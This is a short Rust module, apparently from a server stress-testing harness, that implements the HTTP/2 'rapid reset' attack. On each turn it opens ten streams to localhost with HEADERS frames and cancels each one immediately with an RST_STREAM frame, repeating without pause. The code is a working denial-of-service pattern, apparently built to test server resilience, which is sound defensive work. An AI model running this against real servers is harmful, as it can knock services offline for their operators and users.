//! Rapid reset: HTTP/2 calls that the client cancels at once.

use super::attack::{Attack, NextAction, Turn};
use crate::{
    contender::check_health,
    wire::{
        Protocol,
        frames::{frame, headers, kind, opening},
    },
};

/// The number of calls in a turn.
const CALLS: u32 = 10;
const CANCEL: u32 = 8;

pub(super) struct Resets;

impl Attack for Resets {
    fn about(&self) -> &'static str {
        "open HTTP/2 streams and reset them at once, without pause"
    }

    fn protocol(&self, _client: u64) -> Protocol {
        Protocol::Http2
    }

    fn write_turn(&mut self, turn: Turn, out: &mut Vec<u8>) -> NextAction {
        if turn.number == 0 {
            opening(out);
        }
        for nth in 0..CALLS {
            let stream = 1 + 2 * (CALLS * turn.number + nth);
            headers(&check_health(), "localhost", stream, out);
            frame(kind::RST_STREAM, 0, stream, &CANCEL.to_be_bytes(), out);
        }
        NextAction::AT_ONCE
    }
}
